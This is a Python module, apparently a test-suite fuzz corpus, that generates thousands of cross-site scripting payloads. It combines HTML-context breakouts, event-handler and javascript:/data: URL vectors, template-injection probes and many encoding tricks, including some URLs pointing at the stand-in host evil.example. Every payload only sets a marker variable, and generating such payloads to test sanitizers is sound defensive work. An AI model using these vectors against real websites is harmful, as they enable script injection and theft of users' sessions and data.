"""Words that try to become markup, made from a grammar of our own: what breaks out, of which place, in which writing.

``payloads()`` gives every one of them, in an order that mixes the kinds. Each calls ``DEED``, which a browser test can
look for; none does anything else.
"""

from __future__ import annotations

import random
from itertools import product
from urllib.parse import quote

DEED = "window.__xss=1"
_CALLS = (
    DEED,
    "alert(1)",
    "window['__xss']=1",
    "(_=>window.__xss=1)()",
    "top.__xss=1",
    "setTimeout`window.__xss\\x3d1`",
)

# what ends the place that the words stand in
_BREAKS = {
    "text": ("", "</p>", "</bdi>", "</td></tr></table>", "</mark>", "</li></ul>", "</select>", "</main>"),
    "double quoted": ('">', '" >', '"/>', '"\n>', '" x="">', '"></a>'),
    "single quoted": ("'>", "' >", "'/>", "'></a>"),
    "unquoted": (" >", "\t>", "/>", "`>"),
    "title": ("</title>", "</TITLE >", "</title/>"),
    "textarea": ("</textarea>", "</textarea\n>", "</TextArea>"),
    "style": ("</style>", "*/}</style>", "</style x>"),
    "script": ("</script>", "</script >", "</ScRiPt\t>"),
    "comment": ("-->", "--!>", "--><!--", "<!-->"),
    "cdata": ("]]>", "<![CDATA[", "<?x?>"),
}
_TAGS = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<script/x>{0}</script >", "<script\n>{0}</script>",
    "<img src=x onerror={0}>", "<IMG SRC=x ONERROR='{0}'>", '<img/src="x"/onerror="{0}">', "<img src=x:x onerror\n=\n{0}>",
    "<svg onload={0}>", "<svg/onload={0}//", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{0}><text y=20>x</text></a></svg>", "<math><mtext><style><img src=x onerror={0}></style></mtext></math>",
    "<math><a xlink:href=\"javascript:{0}\">x</a></math>", "<body onload={0}>", "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<object data=javascript:{0}></object>", "<embed src=javascript:{0}>",
    "<details open ontoggle={0}>x</details>", "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}></select>",
    "<video><source onerror={0}></video>", "<audio src=x onerror={0}></audio>", "<marquee onstart={0}>x</marquee>",
    "<form action=javascript:{0}><button>x</button></form>", "<button formaction=javascript:{0}>x</button>",
    "<a href=javascript:{0}>x</a>", "<a href=\"java\tscript:{0}\">x</a>", "<base href=javascript:{0}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<link rel=stylesheet href=javascript:{0}>",
    "<style>@import'javascript:{0}';</style>", "<template><script>{0}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={0}>\"></noscript>", "<xmp><img src=x onerror={0}></xmp>",
    "<div hx-on:load={0} hx-get=/ hx-trigger=load>x</div>", "<div data-hx-on--load={0}>x</div>",
    "<p style=\"background:url(javascript:{0})\">x</p>", "<p onmouseover={0} style=position:fixed;inset:0>x</p>",
    "<portal src=javascript:{0}>", "<dialog open onclose={0}>x</dialog>", "<isindex action=javascript:{0} type=image>",
    "<table background=javascript:{0}>", "<img src=x onerror={0}", "<<script>{0}//<</script>", "<x contenteditable onblur={0}>x</x>",
)  # fmt: skip
_EVENTS = (
    "onabort onanimationend onauxclick onbeforeinput onblur onchange onclick oncontextmenu oncopy ondblclick ondrag ondrop "
    "onended onerror onfocus onfocusin onformdata oninput oninvalid onkeydown onkeypress onkeyup onload onloadend "
    "onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onpageshow onpaste onplay "
    "onpointerdown onpointerenter onpointermove onpointerover onreset onresize onscroll onscrollend onsearch onselect "
    "onsubmit ontoggle ontouchstart ontransitionend onwheel"
).split()
# an attribute added to the element that the words stand in
_ADDED = (
    '" {1}={0} x="',
    "' {1}='{0}' x='",
    '" autofocus tabindex=0 {1}="{0}',
    "` {1}={0} ",
    " {1}={0} ",
    '"/{1}="{0}"/x="',
    '"\n{1}\n=\n"{0}',
)
_ADDRESSES = (
    "javascript:{0}", "JavaScript:{0}", " javascript:{0}", "java\nscript:{0}", "java\tscript:{0}", "\x01javascript:{0}",
    "javascript&colon;{0}", "javascript&#58;{0}", "&#106;avascript:{0}", "vbscript:{0}", "data:text/html,<script>{0}</script>",
    "data:image/svg+xml,<svg onload={0}>", "//evil.example/%0a{0}", "https://evil.example/\"onmouseover={0} x=\"",
    "https://evil.example/'><img src=x onerror={0}>", "http://user:pass@evil.example/<{0}>", "blob:{0}", "feed:javascript:{0}",
    "view-source:javascript:{0}", "javascript://%0a{0}", "javascript:/*--></title></style></textarea></script><svg/onload={0}>",
)  # fmt: skip
_SCRIPTS = (
    "';{0};//", '";{0};//', "\\';{0};//", '\\";{0}//', "`;{0};`", "${{{0}}}", "'-{0}-'", '"+{0}+"', "\\u0027;{0}//", "\u2028{0}\u2029",
    "*/{0}/*", "//\n{0}", "</script><script>{0}</script>", '"}};{0};{{"', "\\x3cscript\\x3e{0}\\x3c/script\\x3e", "<!--<script>{0}",
)  # fmt: skip
_STYLES = (
    "}}*{{background:url(javascript:{0})}}", "expression({0})", "url('javascript:{0}')", "-moz-binding:url(data:,{0})",
    "</style><script>{0}</script>", "@import url(//evil.example/{0});", "x:expression(/**/{0})", "behavior:url({0})", "\\3c script>{0}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{{0}}}}}", "{{%{0}%}}", "{{{{7*7}}}}{0}", "{{{{''.__class__.__mro__}}}}{0}", "{{% import os %}}{0}", "{{#{0}#}}", "${{7*7}}{0}",
    "<%={0}%>", "#{{{0}}}", "{{{{config|safe}}}}{0}", "{{{{'<script>{0}</script>'|safe}}}}", "{{%raw%}}<script>{0}</script>{{%endraw%}}",
)  # fmt: skip
_DATA = (
    '{{"x":"</script><script>{0}</script>"}}',
    '"],"x":[{0}',
    '<script type="application/json">{0}</script>',
    "\\u003cscript>{0}",
)


def _writings(words: str) -> dict[str, str]:
    """The same words as encodings write them; what a reader must not undo."""
    marked = "".join(c for c in "<>\"'&" if c in words)
    hexed = "".join(f"&#x{ord(c):x};" if c in marked else c for c in words)
    return {
        "plain": words,
        "entities": words.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"),
        "numbers": hexed,
        "numbers, open": "".join(f"&#{ord(c):07d}" if c in marked else c for c in words),
        "percent": quote(words, safe=" "),
        "percent twice": quote(quote(words, safe=" "), safe=" "),
        "javascript": "".join(f"\\x{ord(c):02x}" if c in marked else c for c in words),
        "wide": "".join(chr(ord(c) + 0xFEE0) if c in marked else c for c in words),
        "cut by NUL": words.replace("<", "<\0", 1),
        "turned round": f"\u202e{words}\u202c",
        "joined": words.replace("<", "<\u200b").replace("=", "\u00ad="),
        "line ends": words.replace(" ", "\r\n"),
    }


def payloads() -> list[str]:
    """Every payload, each once."""
    plain: list[str] = []
    for (place, breaks), tag in product(_BREAKS.items(), _TAGS):
        plain += [b + tag.format(_CALLS[n % len(_CALLS)]) for n, b in enumerate(breaks)][: 3 if place != "text" else 8]
    for added, event in product(_ADDED, _EVENTS):
        plain.append(added.format(DEED, event))
    for shapes in (_ADDRESSES, _SCRIPTS, _STYLES, _TEMPLATES, _DATA):
        plain += [shape.format(call) for shape, call in product(shapes, _CALLS)]
    out = dict.fromkeys(plain)
    chosen = random.Random(5)
    # writings of a choice, so that the kinds stay in proportion
    for words in chosen.sample(plain, 450):
        out |= dict.fromkeys(_writings(words).values())
    found = list(out)
    chosen.shuffle(found)
    return found
